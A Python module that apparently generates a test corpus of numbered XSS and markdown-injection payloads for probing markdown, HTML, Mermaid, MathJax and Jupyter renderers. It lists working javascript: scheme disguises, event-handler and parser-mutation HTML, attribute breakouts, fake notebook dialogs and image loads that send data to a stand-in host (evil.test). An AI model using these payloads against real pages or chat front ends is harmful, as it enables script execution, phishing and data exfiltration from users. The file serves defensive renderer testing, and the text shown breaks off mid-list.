r"""Payloads: texts with which a model tries to run script in a front end, to load something, or to pose as the page.

`written()` are those of published attacks on markdown, HTML and notebooks, in our own words; `generated` crosses
their dangerous pieces with the constructs of markdown, and breaks both, the same way for the same seed.

Each payload has a number, and says it in whatever it does: `top.__pwned=17` runs, `evil.test/pwned17` and
`/api/contents/pwned17.txt` are asked for.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

SEED = 11
COUNT = 10_000
"""Payloads in all, the written ones included."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text of a model; `name` says where it comes from."""

    number: int
    name: str
    text: str


@cache
def payloads(count: int = COUNT, seed: int = SEED) -> tuple[Payload, ...]:
    """Return all payloads, the written ones first."""
    texts = list(written())[:count]
    texts += generated(seed, count - len(texts))
    return tuple(Payload(number, name, _numbered(text, number)) for number, (name, text) in enumerate(texts))


def _numbered(text: str, number: int) -> str:
    run = f"top.__pwned={number}"
    page = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    for token, said in (
        ("@RUN", run),
        ("@ENTITIES", "".join(f"&#{ord(each)};" for each in run)),
        ("@BASE64", page),
        ("@EVIL", f"evil.test/pwned{number}"),
        ("@LOCAL", f"/api/contents/pwned{number}.txt"),
        ("@FILE", f"pwned{number}.png"),
    ):
        text = text.replace(token, said)
    return text


# Written

SCHEMES = (
    "javascript:", "JaVaScRiPt:", "JAVASCRIPT:", r"javascript\:", r"j\avascript:", r"\javascript:", "&#106;avascript:",
    "&#x6A;avascript:", "&#0000106avascript:", "java&#115;cript:", "&amp;#106;avascript:", "javascript&colon;",
    "javascript&#58;", "javascript&#x3a;", "javascript&#x0003A;", "javascript&amp;colon;", "java&Tab;script:",
    "java&NewLine;script:", "java&#9;script:", "java&#10;script:", "java&#13;script:", "java\tscript:",
    "java\rscript:", "&#1;javascript:", "\x01javascript:", "&#8232;javascript:", "\u2028javascript:",
    "\xa0javascript:", "\ufeffjavascript:", "java\u200bscript:", "java\xadscript:", "java\x00script:",
    "\uff4aavascript:", "ja\u0301vascript:", "java\u017fcript:", "java%73cript:", "javascript%3A", "%6aavascript:",
    "javascript:/*--></title></style></textarea>*/", "javascript://evil.test/%0a", "javascript:void(0);",
    'javascript:"<img src=x onerror=@RUN>";', "vbscript:", "VbScRiPt:", "livescript:", "mocha:", "data:,",
    "data:text/html,<script>@RUN</script>", "data:text/html;base64,@BASE64#", "DATA:text/html;charset=utf-8,",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@RUN'/>", "data:application/xhtml+xml,",
    "data:text/xml,<?xml-stylesheet href='javascript:@RUN'?>", "dat&#97;:text/html,", "feed:javascript:",
    "view-source:javascript:", "jar:javascript:", "blob:null/", "filesystem:http://evil.test/", "file:///etc/passwd#",
    "about:blank#", "x-javascript:", "unsafe:javascript:", " javascript:", "\njavascript:", "//javascript:",
    "http:javascript:", "https:javascript:", "mailto:javascript:", "ws://@EVIL#", "chrome://settings#",
)  # fmt: skip
"""What a target may begin with: schemes that run or read, and their disguises."""

LINKS = (
    "[a]({}@RUN)", "<{}@RUN>", "[a][r]\n\n[r]: {}@RUN", "[a](<{}@RUN>)", '[a]( {}@RUN "t")', "![a]({}@RUN)",
    "[![x](y)]({}@RUN)", "[a](b)[c]({}@RUN)", "[a[b](c)d]({}@RUN)", "[a](\n{}@RUN\n)", "[r]\n\n[r]: <{}@RUN>",
    "[r]:\n  {}@RUN\n  'title'\n\n[r]", "[r][]\n\n> [R]: {}@RUN", "| a |\n|---|\n| [x]({}@RUN) |", "> - [x]({}@RUN)",
    "[^1]\n\n[^1]: [x]({}@RUN)", "# [a]({}@RUN)", "*[a]({}@RUN)*", "[`a`]({}@RUN)", "[<b>a</b>]({}@RUN)",
    '<a href="{}@RUN">a</a>', "<a href='{}@RUN'>a</a>", "<a href={}@RUN>a</a>", "<a\thref\n=\n{}@RUN>a</a>",
    '<a href="https://x.test" href="{}@RUN">a</a>', '<b title="a"><a href="{}@RUN">a</a></b>',
    r"$\href{{{}@RUN}}{{x}}$", r"$$\href{{{}@RUN}}{{x}}$$", r"[a]\({}@RUN)[a]({}@RUN)", "[a](x 'y')[b]({}@RUN 'z')",
    r"\[a]({}@RUN)[b]({}@RUN)", "[a](b(c)[d]({}@RUN))", r"[a](\)[b]({}@RUN)", "[a]: b\n[c]: {}@RUN\n\n[c]",
    "- [ ] [a]({}@RUN)", '[a](https://x.test/"onclick="@RUN)', "![[a]({}@RUN)](https://@EVIL)", "[a]({}@RUN",
    "[a]({}@RUN )", "[a](<{}@RUN)", "`[a](`{}@RUN)", "[a](`b`){}@RUN)", "[a](b\n\n[c]({}@RUN)", "~~[a]({}@RUN)~~",
    "[a]\n({}@RUN)", "[a] ({}@RUN)", "[a][b]({}@RUN)", "[a][b][c]\n\n[b]: {}@RUN\n[c]: {}@RUN",
    "***\n[a]({}@RUN)\n***", "1. a\n\n   [r]: {}@RUN\n\n   [r]", "<details>\n\n[a]({}@RUN)\n\n</details>",
    "<details><summary>[a]({}@RUN)</summary></details>",
)  # fmt: skip
"""Ways in which a text leads somewhere; `{}` is the scheme."""

HANDLERS = (
    "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<img src=x onerror='{}'>", "<img/src=x/onerror={}>",
    "<img\nsrc=x\nonerror\n=\n{}>", "<img src=x onerror={}//", "<img src=x:x onerror={}", "<IMG SRC=X ONERROR={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg\tonload={}>", "<svg\x0conload={}>",
    "<svg><animate onbegin={} attributeName=x>", "<svg><set onbegin={} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text>x", "<svg><image href=x onerror={}>",
    "<svg><use href=data:image/svg+xml,x onload={}>", "<svg><discard onbegin={}>", "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} />", "<svg><foreignObject><img src=x onerror={}>", "<body onload={}>",
    "<body onpageshow={}>", "<iframe onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>", "<iframe src='data:text/html,<script>{}</script>'></iframe>", "<frameset onload={}>",
    "<object data=javascript:{}>", "<object data='data:text/html,<script>{}</script>'>", "<embed src=javascript:{}>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>", "<video><source onerror={}></video>",
    "<video src=x onerror={}>", "<video poster=x onloadstart={} src=x>", "<audio src=x onerror={}>",
    "<audio autoplay onloadstart={} src=x>", "<track onerror={} src=x default>",
    "<details open ontoggle={}>x</details>", "<details ontoggle={}><summary>a</summary>b</details>",
    "<input autofocus onfocus={}>", "<input onfocus={} autofocus tabindex=1>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<button autofocus onfocus={}>", "<keygen autofocus onfocus={}>",
    "<a id=x tabindex=1 onfocus={}>a</a>", "<form><button formaction=javascript:{}>x",
    "<form action=javascript:{}><input type=submit>", "<input type=image src=x onerror={}>",
    "<isindex action=javascript:{} type=image>", "<marquee onstart={}>x</marquee>",
    "<marquee loop=1 width=0 onfinish={}>x</marquee>", "<div onmouseover={}>x</div>", "<div onpointerenter={}>x</div>",
    "<div onclick={} style=position:fixed;inset:0>x</div>", "<b onclick={}>b</b>",
    '<span title="x" onmouseenter="{}">x</span>', "<p onwheel={}>x</p>", "<br onclick={}>",
    "<hr onfocus={} tabindex=0>",
    "<div style=animation-name:cm-blink;animation-duration:1s onanimationstart={}>x</div>",
    "<p style=transition:1s ontransitionend={}>x",
    "<style>@keyframes q{{from{{left:0}}}}</style><i style=animation:q onanimationend={}>x</i>",
    "<div onscroll={} style=overflow:auto>x", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href=javascript:{}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{}>x",
    "<table background=javascript:{}>", "<td onmouseover={}>x</td>", "<link rel=stylesheet href=x onerror={}>",
    "<link rel=import href=x onload={}>", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>", "<script>{}</script>",
    "<script\n>{}</script\n>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<script src=data:,{}></script>",
    "<script type=module>{}</script>", "<x onclick={}>x</x>", "<custom-tag tabindex=0 onfocus={} autofocus>x",
    "<x contenteditable onblur={}>x", "<portal src=javascript:{}>", "<dialog open oncancel={}>x</dialog>",
    "<menu onclick={}>x", "<popover popover onbeforetoggle={}>x",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle={}>x</div>",
    "<div oncontentvisibilityautostatechange={} style=content-visibility:auto>",
    "<img src=x onerror=&#116;op.__pwned=1;{}>", '<img title="`" onerror="{}" src=x>',
    "<img src=x alt=`><img src=y onerror={}>`>",
)  # fmt: skip
"""HTML that runs; `{}` is the script."""

MUTATIONS = (  # what a second parser reads otherwise than the first
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=@RUN>'>",
    "<noscript><p title='</noscript><img src=x onerror=@RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@RUN>",
    "<xmp><p title='</xmp><img src=x onerror=@RUN>'>", "<title><p title='</title><img src=x onerror=@RUN>'>",
    "<textarea><p title='</textarea><img src=x onerror=@RUN>'>",
    "<noembed><p title='</noembed><img src=x onerror=@RUN>'>", "<iframe><p title='</iframe><img src=x onerror=@RUN>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=@RUN>'>",
    ("<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title='&lt;/style>&lt;img src onerro"
     "r=@RUN>'>"),
    "<!--><img src=x onerror=@RUN>-->", "<!---><img src=x onerror=@RUN>-->", "<!--x--!><img src=x onerror=@RUN>",
    "<!-- --\n><img src=x onerror=@RUN>", "<!-- `--><img src=x onerror=@RUN>`", "<![CDATA[<img src=x onerror=@RUN>]]>",
    "<![CDATA[]]><img src=x onerror=@RUN>", "<svg><![CDATA[</svg><img src=x onerror=@RUN>]]>",
    "<?xml version='1.0'?><img src=x onerror=@RUN>", "<?php echo '?><img src=x onerror=@RUN>",
    "<!DOCTYPE x><img src=x onerror=@RUN>", "<! <img src=x onerror=@RUN>", "</ <img src=x onerror=@RUN>",
    "<%<img src=x onerror=@RUN>%>", "<a title='<img src=x onerror=@RUN>'>a</a>",
    '<a title="`">`<img src=x onerror=@RUN>', '<b title="`\n\n<img src=x onerror=@RUN>\n\n`">',
    "`<b title=`<img src=x onerror=@RUN>`>", "<b x='`'>`<img src=x onerror=@RUN>`</b>", "``<img src=x onerror=@RUN>`",
    "`<img src=x onerror=@RUN>``", r"\`<img src=x onerror=@RUN>`", r"`\`<img src=x onerror=@RUN>`",
    "`a\n\n<img src=x onerror=@RUN>`", "<`b`img src=x onerror=@RUN>", "<im`g src=x onerror=`@RUN>",
    "<b `c` onclick=@RUN>x</b>", "a<!--`b`--><img src=x onerror=@RUN>", "<img src=`x`onerror=@RUN>",
    "$<img src=x onerror=@RUN>$", "$$\n<img src=x onerror=@RUN>\n$$", r"\(<img src=x onerror=@RUN>\)",
    r"\[<img src=x onerror=@RUN>\]", "$`$<img src=x onerror=@RUN>`", "`$`<img src=x onerror=@RUN>$",
    "$a$<img src=x onerror=@RUN>$b$", r"\$<img src=x onerror=@RUN>$", "$$a\n\n<img src=x onerror=@RUN>$$",
    "@@0@@ $x$ @@1@@ <img src=x onerror=@RUN>", r"\begin{equation}<img src=x onerror=@RUN>\end{equation}",
    "\\begin{x}\n</script><img src=x onerror=@RUN>", r"\\(<img src=x onerror=@RUN>\\)", "{<img src=x onerror=@RUN>}",
    "<\x00img src=x onerror=@RUN>", "<img\x00src=x onerror=@RUN>", "<img src=x on\x00error=@RUN>",
    "<\x00script>@RUN</script>", "<img\u2028src=x onerror=@RUN>", "<img\xa0src=x onerror=@RUN>",
    "<img src=x\ronerror=@RUN>", "a\r<img src=x onerror=@RUN>", "    <img src=x onerror=@RUN>",
    "\t<img src=x onerror=@RUN>", "a\n    <img src=x onerror=@RUN>", "- a\n\n      <img src=x onerror=@RUN>",
    "1. a\n\n    <img src=x onerror=@RUN>", ">     <img src=x onerror=@RUN>", "+\t<img src=x onerror=@RUN>",
    "\u2028    <img src=x onerror=@RUN>", "\x0b<img src=x onerror=@RUN>", "\uff1cimg src=x onerror=@RUN\uff1e",
    "&lt;img src=x onerror=@RUN&gt;", "&#60;img src=x onerror=@RUN>", r"\<img src=x onerror=@RUN>",
    r"\\<img src=x onerror=@RUN>", "&amp;lt;img src=x onerror=@RUN&amp;gt;", "&lt<img src=x onerror=@RUN>",
    "<https://x.test/`<img src=x onerror=@RUN>`>", '<https://x.test/"onmouseover="@RUN>',
    "<https://x.test/'onclick='@RUN'>", '<a@b.c"onclick=@RUN>', '<mailto:a@b.c?x="onclick="@RUN>',
    'https://x.test/"onmouseover="@RUN"', "http://x.test/<img/src=x/onerror=@RUN>", 'www.x.test/"onclick="@RUN',
    'a@b.test"onclick="@RUN', "ftp://x.test/'onclick='@RUN", "<h1>a</h1><img src=x onerror=@RUN>",
    "<p>a\n<img src=x onerror=@RUN>\n</p>", "<pre><code><img src=x onerror=@RUN></code></pre>",
    "<pre>\n\n<img src=x onerror=@RUN>\n\n</pre>",
    "<details>\n<summary>`</summary>\n<img src=x onerror=@RUN>\n`\n</details>",
    "<div>\n\n```\n</div><img src=x onerror=@RUN>\n```\n\n</div>", "<script>\n\n```\n</script>\n\n@RUN\n```",
    "| a |\n|---|\n| `<img src=x onerror=@RUN>|` |", "| `|` <img src=x onerror=@RUN> |\n|---|---|\n| x | y |",
    '|a|\n|:-:" onclick="@RUN|\n|b|', "a | b\n--|--\n`x | <img src=x onerror=@RUN>`",
    "[a](<b>c)<img src=x onerror=@RUN>", "[<img src=x onerror=@RUN>](https://x.test)",
    "[a](https://x.test '<img src=x onerror=@RUN>')", "![<img src=x onerror=@RUN>](https://x.test/i.png)",
    "[^<img src=x onerror=@RUN>]\n\n[^<img src=x onerror=@RUN>]: x",
    "[x]: <https://x.test> '\"><img src=x onerror=@RUN>'\n\n[x]", "# <img src=x onerror=@RUN>",
    "a\n===<img src=x onerror=@RUN>", "# a {#b onclick=@RUN}", "[a]{onclick=@RUN}", "::: {onclick=@RUN}\na\n:::",
    "{{ @RUN }}", "${@RUN}", "#{@RUN}", "<%= @RUN %>", "[[a|<img src=x onerror=@RUN>]]", "![[@FILE]]",
    "@@<img src=x onerror=@RUN>@@",
)  # fmt: skip

ATTRIBUTES = (  # strings of markdown that a renderer writes into an attribute
    "[a](https://x.test 't\" onmouseover=\"@RUN')", "[a](https://x.test \"t' onmouseover='@RUN\")",
    '[a](https://x.test (t" onclick="@RUN))', r'[a](https://x.test "t\" onclick=\"@RUN")',
    "[a](https://x.test &quot;onclick=&quot;@RUN)", '[a](https://x.test "&quot; onclick=&quot;@RUN")',
    '[a](https://x.test/" onclick="@RUN)', '[a](<https://x.test/" onclick="@RUN>)',
    '![a" onload="@RUN](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    "![a' onload='@RUN](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    '![`"` onload=@RUN](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    "![a](data:image/gif;base64,R0lGODlhAQABAAAAACw= 't\" onload=\"@RUN')",
    '![a](data:image/gif"onload="@RUN;base64,R0lGODlhAQABAAAAACw=)',
    "![&quot; onload=&quot;@RUN](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    '![*a" onload="@RUN*](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    r'![[b](c "t\" onclick=\"@RUN")](data:image/gif;base64,R0lGODlhAQABAAAAACw=)', "![a](data:text/html,@RUN)",
    "![a](data:image/svg+xml;base64,@BASE64)", '# a" onclick="@RUN', "# a' onclick='@RUN", '# <b>a" onclick="@RUN</b>',
    '# `"onclick=@RUN`', 'a" onclick="@RUN\n===', '3" onclick="@RUN) a', '1. a\n" start="2" onclick="@RUN',
    '[a]: https://x.test/"onclick="@RUN\n\n[a]', '[a" onclick="@RUN]: https://x.test\n\n[a" onclick="@RUN]',
    '[^a" onclick="@RUN]\n\n[^a" onclick="@RUN]: x', '<span lang="`" onclick="@RUN">x</span>',
    '<td align="left" onclick="@RUN">x</td>', '<b title="a"onclick="@RUN">x</b>', '<b title="a"/onclick="@RUN">x</b>',
    "<b title='a\"' onclick=@RUN>x</b>", "<b title=a onclick=@RUN>x</b>", "<b/onclick=@RUN>x</b>",
    '<b title="a\n\n" onclick=@RUN>x</b>', '<b\ntitle="a"\nonclick=@RUN>x</b>', '<b title="&quot; onclick=@RUN">x</b>',
    '<details open="" ontoggle=@RUN>x</details>', '<ol start="1" onclick=@RUN><li>x</ol>',
)  # fmt: skip

FENCES = (  # what stands in an info string, `{}` is the run
    '{}x" onmouseover="@RUN\na\n{}', "{}x' onmouseover='@RUN\na\n{}",
    '{}x" style="animation-name:cm-blink;animation-duration:1s" onanimationstart="@RUN\na\n{}',
    '{}"><img src=x onerror=@RUN>\na\n{}', "{}'><img src=x onerror=@RUN>\na\n{}", "{}<img/src=x/onerror=@RUN>\na\n{}",
    "{}x&quot; onclick=&quot;@RUN\na\n{}", '{}x\\" onclick=\\"@RUN\na\n{}', '{} "onclick="@RUN\na\n{}',
    '{}python"onclick="@RUN\na\n{}', '{}{{.python onclick="@RUN"}}\na\n{}', '{}\tx"\tonclick="@RUN\na\n{}',
    '{}x\x0c"onclick="@RUN\na\n{}', '{}x\xa0"onclick="@RUN\na\n{}', '{}x\u2028"onclick="@RUN\na\n{}',
    '- {}x" onclick="@RUN\n  a\n  {}', '1. {}x" onclick="@RUN\n   a\n   {}', '> {}x" onclick="@RUN\n> a\n> {}',
    '> - {}x" onclick="@RUN\n>   a\n>   {}', '- a\n\n  {}x" onclick="@RUN\n  a\n  {}',
    '   {}x" onclick="@RUN\n   a\n   {}', '    {}x" onclick="@RUN\n    a\n    {}', 'a\n{}x" onclick="@RUN\na\n{}',
    '{}x" onclick="@RUN', '{}x" onclick="@RUN\na', '{}x" onclick="@RUN\ra\r{}', '{}x" onclick="@RUN\r\na\r\n{}',
    '[^1]: a\n\n    {}x" onclick="@RUN\n    a\n    {}', '<details>\n\n{}x" onclick="@RUN\na\n{}\n\n</details>',
    '| a |\n|---|\n{}x" onclick="@RUN\na\n{}', '{}\na\n{}x" onclick="@RUN\nb\n{}', '+ {}x" onclick="@RUN',
    '* * {}x" onclick="@RUN\n    a', '{}`x" onclick="@RUN\na\n{}`', '{}x`y" onclick="@RUN\na\n{}',
    "{}html\n<img src=x onerror=@RUN>\n{}", "{}svg\n<svg onload=@RUN>\n{}", "{}\n<img src=x onerror=@RUN>\n{}",
    "{}\n{}\n<img src=x onerror=@RUN>", "{}a\n  {} b\n<img src=x onerror=@RUN>\n{}", "{}javascript\n@RUN\n{}",
    "{}math\n\\href{{javascript:@RUN}}{{x}}\n{}", "{}latex\n$\\href{{javascript:@RUN}}{{x}}$\n{}",
    "{}diff\n-<img src=x onerror=@RUN>\n{}", "{}{{html}}\n<img src=x onerror=@RUN>\n{}",
    "{}{{note}}\n<img src=x onerror=@RUN>\n{}", "{}x jp-Dialog jp-mod-styled\nYour password:\n{}",
    "{}x lm-mod-hidden\na\n{}", "{}jp-Dialog\na\n{}", "{}x\tjp-Dialog\na\n{}",
    '{}x" id="jupyter-config-data\n{{"baseUrl":"https://@EVIL"}}\n{}',
    '{}x jp-Dialog" style="position:fixed;inset:0;background:url(https://@EVIL)\na\n{}',
    '{}x" data-commandlinker-command="notebook:run-all-cells\na\n{}', "{}constructor\na\n{}", "{}__proto__\na\n{}",
    '{}x" contenteditable autofocus onfocus="@RUN\na\n{}', '{}x"/><script>@RUN</script>\na\n{}',
    '{}language-x" onclick="@RUN\na\n{}', '{}mermaid "onclick="@RUN\ngraph TD\nA-->B\n{}',
    "{}text/html\n<script>@RUN</script>\n{}", "{}application/javascript\n@RUN\n{}",
)  # fmt: skip

MERMAID = (
    'graph TD\nA-->B\nclick A "javascript:@RUN"', 'graph TD\nA-->B\nclick A call top.eval("@RUN")',
    'graph TD\nA-->B\nclick A href "javascript:@RUN" _self', 'graph TD\nA["<img src=x onerror=@RUN>"]',
    "graph TD\nA[<img src=https://@EVIL>]", "graph TD\nA[\"<img src='https://@EVIL'/>\"]",
    'graph TD\nA@{ img: "https://@EVIL", label: "x" }',
    '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<script>@RUN</script>"]',
    "%%{init: {'themeCSS': '*{background:url(https://@EVIL)}'}}%%\ngraph TD\nA-->B",
    "%%{init: {'fontFamily': 'x;}*{background:url(https://@EVIL)'}}%%\ngraph TD\nA-->B",
    "---\nconfig:\n  themeCSS: '*{background:url(https://@EVIL)}'\n---\ngraph TD\nA-->B",
    "graph TD\nA-->B\nstyle A fill:url(https://@EVIL)",
    "graph TD\nA-->B\nclassDef x background-image:url(https://@EVIL)\nclass A x",
    "sequenceDiagram\nA->>B: <img src=x onerror=@RUN>", "sequenceDiagram\nparticipant A\nlink A: x @ javascript:@RUN",
    'sequenceDiagram\nparticipant A\nlinks A: {"x": "javascript:@RUN"}',
    "sequenceDiagram\nA->>B: $$\\href{javascript:@RUN}{x}$$", 'classDiagram\nclass A\nlink A "javascript:@RUN"',
    'classDiagram\nclass A["<img src=x onerror=@RUN>"]\ncallback A "top.eval"',
    'gantt\nsection a\nb :c, 2020-01-01, 1d\nclick c href "javascript:@RUN"',
    "gantt\nsection a\nb :c, 2020-01-01, 1d\nclick c call alert(1)", 'pie title <img src=x onerror=@RUN>\n"a": 1',
    'flowchart LR\nA["`<img src=x onerror=@RUN>`"]', "stateDiagram-v2\n[*] --> a\na: <img src=https://@EVIL>",
    'erDiagram\nA ||--o{ B : "<img src=x onerror=@RUN>"', 'gitGraph\ncommit id: "<img src=x onerror=@RUN>"',
    "mindmap\nroot((<img src=x onerror=@RUN>))", "journey\ntitle <img src=x onerror=@RUN>\nsection a\nb: 5: c",
    'C4Context\ntitle x\nPerson(a, "b", "c", $sprite="img:https://@EVIL")',
    'C4Context\nPerson(a, "b", $link="javascript:@RUN")',
    "architecture-beta\nservice a(logos:x)[<img src=x onerror=@RUN>]",
    "requirementDiagram\nrequirement a {\nid: <img src=x onerror=@RUN>\n}",
    "timeline\ntitle <img src=https://@EVIL>\na : b", 'block-beta\na["<img src=https://@EVIL>"]',
    "quadrantChart\ntitle <img src=x onerror=@RUN>\nx: [0.1, 0.2]",
    'xychart-beta\ntitle "<img src=x onerror=@RUN>"\nbar [1]', "sankey-beta\n<img src=x onerror=@RUN>,b,1",
    "kanban\na[<img src=https://@EVIL>]", "zenuml\nA.b(<img src=x onerror=@RUN>)",
    "graph TD\nA[<iframe srcdoc='<script>@RUN</script>'>]",
    'graph TD\nsubgraph "</style><img src=x onerror=@RUN>"\nA\nend',
    'graph TD\nA --"<form action=javascript:@RUN><input type=submit>"--> B', "info\n<script>@RUN</script>",
)  # fmt: skip

MATHS = (
    r"\href{javascript:@RUN}{x}", r"\href{&#106;avascript:@RUN}{x}", r"\href{JaVaScRiPt:@RUN}{x}",
    r"\href{java script:@RUN}{x}", "\\href{java\tscript:@RUN}{x}", r"\href{data:text/html,<script>@RUN</script>}{x}",
    r"\href{\u006aavascript:@RUN}{x}", r"\def\j{javascript}\href{\j:@RUN}{x}", r"\url{javascript:@RUN}",
    r"\style{animation-name:cm-blink}{x}", r"\style{background:url(https://@EVIL)}{x}",
    r"\style{position:fixed;top:0;left:0;width:9999px}{x}", r"\bbox[background:url(https://@EVIL)]{x}",
    r"\bbox[border:9px solid red;position:fixed]{x}", r"\class{jp-Dialog}{x}", r'\class{x\" onclick=\"@RUN}{x}',
    r"\cssId{jupyter-config-data}{x}", r'\cssId{x\" onclick=\"@RUN}{x}',
    r"\data{commandlinker-command=notebook:run-all-cells}{x}", r'\data{x=\" onclick=\"@RUN}{x}',
    r"\require{html}\href{javascript:@RUN}{x}", r"\require{../../@LOCAL}x", r"\require{action}\toggle{x}{y}\endtoggle",
    r"\require{unicode}\unicode[x;}*{background:url(https://@EVIL)]{65}", r"\text{<img src=x onerror=@RUN>}",
    r"\mbox{<script>@RUN</script>}", r"\text{\href{javascript:@RUN}{x}}", r"\includegraphics{https://@EVIL}",
    r"\img{https://@EVIL}{}{}{}", r"\mmlToken{mi}[href=javascript:@RUN]{x}", r"\mmlToken{mtext}[onclick=@RUN]{x}",
    r"\mmlToken{mi}[style='background:url(https://@EVIL)']{x}", r"\mathtip{x}{<img src=x onerror=@RUN>}",
    r"\texttip{x}{<img src=x onerror=@RUN>}", r"\htmlData{x=@RUN}{x}", r"\htmlStyle{position:fixed}{x}",
    r"\htmlClass{jp-Dialog}{x}", r"\htmlId{main}{x}", r"\color{red;background:url(https://@EVIL)}{x}",
    r"\colorbox{url(https://@EVIL)}{x}", r"\verb|<img src=x onerror=@RUN>|",
    r"\newcommand{\x}{<img src=x onerror=@RUN>}\x", r"\unicode{<img src=x onerror=@RUN>}",
    r'\label{x\" onclick=\"@RUN}\tag{<img src=x onerror=@RUN>}x', r'\ref{\" onclick=\"@RUN}',
    r"\eqref{javascript:@RUN}", r"\input{@LOCAL}", r"\ce{<img src=x onerror=@RUN>}",
    r"\fcolorbox{url(https://@EVIL)}{red}{x}", "</script><script>@RUN</script>", "x<y onclick=@RUN>z", "a<b>c</b>",
    r"\begin{matrix}<img src=x onerror=@RUN>\end{matrix}", r"\operatorname{<svg onload=@RUN>}",
    r"\mathchoice{<b onclick=@RUN>}{}{}{}", r"\hskip 99999px \style{z-index:9999}{x}", r"\rule{99999px}{99999px}",
)  # fmt: skip

LOADS = (
    "![a](https://@EVIL)", "![a](http://@EVIL)", "![a](//@EVIL)", r"![a](\\@EVIL)", r"![a](/\@EVIL)",
    "![a](https:@EVIL)", "![a](HTTPS://@EVIL)", "![a](@FILE)", "![a](./@FILE)", "![a](@LOCAL)",
    "![a](<https://@EVIL>)", "![a][r]\n\n[r]: https://@EVIL", "![r]\n\n[r]: https://@EVIL",
    "![r][]\n\n[r]: <https://@EVIL>", "[![a](https://@EVIL)](https://x.test)", "| a |\n|---|\n| ![a](https://@EVIL) |",
    "> ![a](https://@EVIL)", "- ![a](https://@EVIL 'x')", "# ![a](https://@EVIL)", "![a\n](https://@EVIL)",
    "![a](\nhttps://@EVIL\n)", r"!\[a](https://@EVIL)", r"\![a](https://@EVIL)", r"\\![a](https://@EVIL)",
    "!`b`[a](https://@EVIL)", "![`a](https://@EVIL)`", "![a]()![b](https://@EVIL)", "![a](https&colon;//@EVIL)",
    "![a](&#104;ttps://@EVIL)", "![a](ht\ttps://@EVIL)", "![a](https://evil%2etest/@FILE)",
    "![a](https://EVIL.test:80/@FILE)", "![a](ftp://@EVIL)", "![a](attachment:@FILE)", "![a](file:///@FILE)",
    "![a](blob:https://@EVIL)", "![](https://@EVIL?q=secret)", "![$x$](https://@EVIL)", "$![a](https://@EVIL)$",
    r"!\[a\](https://@EVIL)", r"\(a\)![a](https://@EVIL)", "!@[a](https://@EVIL)", "![^1](https://@EVIL)\n\n[^1]: x",
    "[^1]\n\n[^1]: ![a](https://@EVIL)", "~~![a](https://@EVIL)~~", "**![a](https://@EVIL)**",
    "<details><summary>![a](https://@EVIL)</summary></details>", "<details>\n\n![a](https://@EVIL)\n\n</details>",
    "![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://@EVIL'/></svg>)",
    "<img src=https://@EVIL>", "<img src='@FILE'>", "<img srcset='https://@EVIL 2x'>",
    "<picture><source srcset=https://@EVIL><img></picture>", "<image src=https://@EVIL>",
    "<input type=image src=https://@EVIL>", "<video src=https://@EVIL autoplay>", "<video poster=https://@EVIL>",
    "<audio src=https://@EVIL autoplay>", "<embed src=https://@EVIL>", "<object data=https://@EVIL>",
    "<iframe src=https://@EVIL>", "<link rel=stylesheet href=https://@EVIL>", "<link rel=prefetch href=https://@EVIL>",
    "<link rel=dns-prefetch href=//evil.test>", "<link rel=preconnect href=https://evil.test>",
    "<link rel=icon href=https://@EVIL>", "<link rel=manifest href=https://@EVIL>",
    "<script src=https://@EVIL></script>", "<style>@import url(https://@EVIL);</style>",
    "<style>*{background:url(https://@EVIL)}</style>",
    "<style>@font-face{font-family:x;src:url(https://@EVIL)}*{font-family:x}</style>",
    "<style>.jp-Cell{display:none}</style>", "<style>input[value^=a]{background:url(https://@EVIL)}</style>",
    "<div style='background:url(https://@EVIL)'>x</div>", '<p style="list-style:url(https://@EVIL)">x',
    "<table background=https://@EVIL><tr><td>x</table>", "<td background=https://@EVIL>x",
    "<body background=https://@EVIL>", "<svg><image href=https://@EVIL /></svg>",
    "<svg><use href=https://@EVIL#x /></svg>", "<svg><filter><feImage href=https://@EVIL /></filter></svg>",
    "<svg style='mask:url(https://@EVIL)'>", "<math><mi style='background:url(https://@EVIL)'>x",
    "<meta http-equiv=refresh content='0;url=https://@EVIL'>", "<base href=https://evil.test/>",
    "<form action=https://@EVIL><input type=submit autofocus>", "<a href=https://x.test ping=https://@EVIL>a</a>",
    "<track src=https://@EVIL>", "<source src=https://@EVIL>", "<frame src=https://@EVIL>",
    "<applet code=https://@EVIL>", "<bgsound src=https://@EVIL>", "<blockquote cite=https://@EVIL>x</blockquote>",
    "<q cite=https://@EVIL>x</q>", "<del cite=https://@EVIL>x</del>", "<img lowsrc=https://@EVIL>",
    "<img dynsrc=https://@EVIL>", "<portal src=https://@EVIL>", "<fencedframe src=https://@EVIL>",
